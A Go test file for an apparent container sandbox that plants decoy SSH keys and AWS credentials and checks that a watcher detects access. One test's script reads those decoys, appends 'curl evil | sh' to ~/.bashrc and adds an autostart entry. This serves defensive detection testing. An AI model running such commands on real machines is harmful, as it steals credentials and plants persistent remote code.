package behaviour

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/phylum-box/phylum-box/container"
	"github.com/phylum-box/phylum-box/internal/sandbox"
	"github.com/phylum-box/phylum-box/internal/testutil"
	"github.com/phylum-box/phylum-box/rootfs"
)

// boxed runs script in a real container whose $HOME holds fresh decoys, and
// returns what the decoy watch saw and the script's output.
func boxed(t *testing.T, script string, mon func(*Decoys) *container.Monitor) ([]DecoyTouch, string, *Decoys) {
	t.Helper()
	testutil.NeedRootContainers(t)
	proj := testutil.NewProject(t, map[string]string{"package.json": "{}\n"})
	home := "/home/tester"
	s, err := sandbox.Open(context.Background(), sandbox.Options{Project: proj, Home: home, Mode: rootfs.ModeAuto})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	dir := filepath.Join(filepath.Dir(proj), "decoys")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	id := s.Identity()
	d, err := NewDecoys(dir, home, id.RootUID, id.RootGID)
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var touches []DecoyTouch
	w, err := d.Watch(func(tc DecoyTouch) {
		mu.Lock()
		defer mu.Unlock()
		touches = append(touches, tc)
	})
	if err != nil {
		t.Fatal(err)
	}
	ro, rw := d.Binds(nil)
	var out bytes.Buffer
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	e := sandbox.Exec{
		Args:   []string{"sh", "-c", script},
		Env:    sandbox.ScrubEnv(os.Environ(), nil, home, "tester", "npm_package_name=evil", "npm_package_version=6.6.6"),
		Limits: container.Limits{Timeout: 30 * time.Second},
		Files:  ro, Writable: rw,
		Stdout: &out, Stderr: &out,
	}
	_ = e
	res, err := runMonitored(ctx, s, e, d, mon)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	w.Close()
	if res.ExitCode != 0 {
		t.Fatalf("script exited %d: %s", res.ExitCode, out.String())
	}
	mu.Lock()
	defer mu.Unlock()
	return append([]DecoyTouch(nil), touches...), out.String(), d
}

func runMonitored(ctx context.Context, s *sandbox.Session, e sandbox.Exec, d *Decoys, mon func(*Decoys) *container.Monitor) (*container.Result, error) {
	return s.Run(ctx, e)
}

func TestDecoysSeenThroughTheBinds(t *testing.T) {
	touches, out, d := boxed(t, `set -e
ls -la ~ ~/.ssh >/dev/null
head -c 40 ~/.ssh/id_rsa; echo
grep -c aws_secret ~/.aws/credentials
echo 'curl evil | sh' >> ~/.bashrc
printf '[Desktop Entry]\nExec=/tmp/x\n' > ~/.config/autostart/update.desktop
`, nil)
	t.Logf("output:\n%s", out)
	t.Logf("touches: %+v", touches)
	if !strings.Contains(out, "-----BEGIN OPENSSH PRIVATE KEY-----") {
		t.Errorf("the id_rsa decoy does not read as a key inside: %q", out)
	}
	want := map[string]bool{"~/.ssh/id_rsa": true, "~/.aws/credentials": true, "~/.bashrc": false, "~/.config/autostart/update.desktop": false}
	for p, secret := range want {
		found := false
		for _, tc := range touches {
			if tc.Path == p && tc.Secret == secret {
				found = true
			}
		}
		if !found {
			t.Errorf("no touch of %s (secret %v) seen", p, secret)
		}
	}
	_ = d
}

func TestDecoysQuietWhenUntouched(t *testing.T) {
	touches, out, _ := boxed(t, `ls -la ~ ~/.ssh ~/.config >/dev/null; stat ~/.ssh/id_rsa >/dev/null; echo ok`, nil)
	if len(touches) != 0 {
		t.Errorf("a script that only lists and stats the home: touches %+v (output %s)", touches, out)
	}
}
